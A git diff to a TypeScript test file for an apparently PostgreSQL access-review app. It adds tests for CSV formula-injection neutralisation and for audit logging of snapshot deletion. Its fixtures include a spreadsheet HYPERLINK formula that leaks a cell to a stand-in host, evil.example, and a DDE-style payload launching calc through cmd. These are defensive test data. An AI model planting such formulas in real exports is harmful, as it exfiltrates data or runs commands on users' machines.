@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describeChange, type EventDetail } from '../../web/src/lib/event-text.js';
 import { startTestApp, type TestApp, testedPostgres } from './support/app.js';
 import type { TestClient } from './support/client.js';
 import { connect, createLoginRole, createManagedDatabase, ERROR_FIELDS, setupAdmin } from './support/fixtures.js';
@@ -19,6 +20,11 @@ let annexId: string;
 /** A role and a table whose names carry what breaks naive CSV: quotes, commas, a newline, non-ASCII letters. */
 const HOSTILE_ROLE = 'ar "reviewer",\nà la carte ✓';
 const HOSTILE_TABLE = 'ta,ble "x"\r\nü';
+/** Names a spreadsheet would run as formulas (or that start with the quote that neutralises them). */
+const FORMULA_ROLE = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+const FORMULA_GRANTEES = ["+1+cmd|' /C calc'!A0", '-2+3', "'=quoted", '\tTAB', '\rCR'];
+const FORMULA_SCHEMA = '@SUM(1)';
+const FORMULA_TABLE = '=1+2';
 const q = (name: string) => `"${name.replaceAll('"', '""')}"`;
 
 const ROW =
@@ -175,6 +181,19 @@ beforeAll(async () => {
      GRANT UPDATE (secret) ON s.t TO ar_bob; GRANT SELECT ON s.pub TO PUBLIC; GRANT USAGE ON s.seq TO ar_leads;
      GRANT INSERT ON s.pub TO "PUBLIC";
      GRANT SELECT, INSERT ON s.${q(HOSTILE_TABLE)} TO ${q(HOSTILE_ROLE)} WITH GRANT OPTION;
+     RESET ROLE;`,
+    [],
+    'shop',
+  );
+  await testApp.sql(
+    `CREATE ROLE ${q(FORMULA_ROLE)}; ${FORMULA_GRANTEES.map((role) => `CREATE ROLE ${q(role)};`).join(' ')}
+     CREATE SCHEMA ${q(FORMULA_SCHEMA)} AUTHORIZATION shop_owner; SET ROLE shop_owner;
+     CREATE TABLE ${q(FORMULA_SCHEMA)}.${q(FORMULA_TABLE)} (${q(FORMULA_TABLE)} int);
+     GRANT USAGE ON SCHEMA ${q(FORMULA_SCHEMA)} TO ${q(FORMULA_ROLE)};
+     GRANT SELECT ON ${q(FORMULA_SCHEMA)}.${q(FORMULA_TABLE)} TO ${q(FORMULA_ROLE)} WITH GRANT OPTION;
+     GRANT UPDATE (${q(FORMULA_TABLE)}) ON ${q(FORMULA_SCHEMA)}.${q(FORMULA_TABLE)} TO ${q(FORMULA_ROLE)};
+     SET ROLE ${q(FORMULA_ROLE)};
+     GRANT SELECT ON ${q(FORMULA_SCHEMA)}.${q(FORMULA_TABLE)} TO ${FORMULA_GRANTEES.map(q).join(', ')};
      RESET ROLE;`,
     [],
     'shop',
@@ -365,6 +384,25 @@ describe('exports', () => {
     expect(JSON.parse(hostile?.[12] ?? '[]')).toEqual([HOSTILE_ROLE]);
   });
 
+  it('CSV neutralises every cell a spreadsheet would read as a formula, and reads back by dropping that quote', async () => {
+    const formulaSubject = { object: { kind: 'TABLE', schema: FORMULA_SCHEMA, name: FORMULA_TABLE } };
+    const rows = await rowsOf(formulaSubject);
+    expect(rows.map((row) => row.role)).toEqual(expect.arrayContaining([FORMULA_ROLE, ...FORMULA_GRANTEES]));
+    const [, ...lines] = parseCsv((await exported(formulaSubject, 'CSV')).content);
+    // No cell starts with what a spreadsheet evaluates: =, +, -, @, tab or carriage return.
+    for (const line of lines) for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const granted = lines.find((line) => line[0] === `'${FORMULA_GRANTEES[0]}`);
+    expect(granted).toMatchObject({ 4: `'${FORMULA_SCHEMA}`, 5: `'${FORMULA_TABLE}`, 13: `'${FORMULA_ROLE}` });
+    // A name that starts with the quote itself gets one more, so that dropping one always gives the name back.
+    expect(lines.map((line) => line[0])).toContain(`''=quoted`);
+    const undone = lines.map((line) => line.map((cell) => (cell.startsWith("'") ? cell.slice(1) : cell)));
+    const expected = rows.flatMap((row) =>
+      row.paths.map((path) => [row.role, row.object.schema, row.object.name, row.object.label, path.grantor ?? '']),
+    );
+    expect(undone.map((line) => [line[0], line[4], line[5], line[8], line[13]])).toEqual(expected);
+    expect(JSON.parse(undone.find((line) => line[0] === FORMULA_ROLE)?.[12] ?? '')).toEqual([FORMULA_ROLE]);
+  });
+
   it('JSON carries the same rows and the subject', async () => {
     const rows = await rowsOf(subject);
     const file = await exported(subject, 'JSON');
@@ -510,6 +548,41 @@ describe('snapshots and what changed since', () => {
 });
 
 describe('who may read reviews', () => {
+  it('saving and deleting a snapshot are recorded in the event log, with its subject, note and size', async () => {
+    const snapshot = await save({ role: 'ar_ana' }, 'quarterly review');
+    expect(snapshot.__typename).toBe('AccessSnapshot');
+    const removed = await admin.field(
+      `mutation($id: ID!) { deleteAccessSnapshot(id: $id) { ${ERROR_FIELDS} ... on Removed { id } } }`,
+      { id: snapshot.id },
+    );
+    expect(removed).toMatchObject({ __typename: 'Removed', id: snapshot.id });
+    const log = await admin.request<{ auditLog: { events: Record<string, unknown>[] } }>(
+      `query($db: ID!) { auditLog(databaseId: $db, first: 2, kinds: ["access_snapshot.saved", "access_snapshot.deleted"]) {
+         ... on EventPage { events { __typename kind databaseId actor { username }
+           ... on AccessSnapshotEvent { snapshotId subjectKind subjectLabel note rowCount } } } } }`,
+      { db: shopId },
+    );
+    expect(log.errors).toBeUndefined();
+    const recorded = {
+      __typename: 'AccessSnapshotEvent',
+      databaseId: shopId,
+      snapshotId: snapshot.id,
+      subjectKind: 'ROLE',
+      subjectLabel: 'ar_ana',
+      note: 'quarterly review',
+      rowCount: snapshot.rowCount,
+    };
+    expect(log.data?.auditLog.events).toEqual([
+      expect.objectContaining({ ...recorded, kind: 'access_snapshot.deleted' }),
+      expect.objectContaining({ ...recorded, kind: 'access_snapshot.saved' }),
+    ]);
+    // As Activity and the live feed word them.
+    expect(log.data?.auditLog.events.map((event) => describeChange(event as unknown as EventDetail))).toEqual([
+      `access snapshot of role ar_ana (${snapshot.rowCount} rows): quarterly review deleted`,
+      `access snapshot of role ar_ana (${snapshot.rowCount} rows): quarterly review saved`,
+    ]);
+  });
+
   it('a MEMBER with a weak role reads and exports reviews of their database, never of another', async () => {
     expect((await report({ role: 'ar_ana' }, weak)).rowCount).toBeGreaterThan(0);
     expect(await exported({ schema: 's' }, 'CSV', weak)).toMatchObject({ __typename: 'AccessExport' });
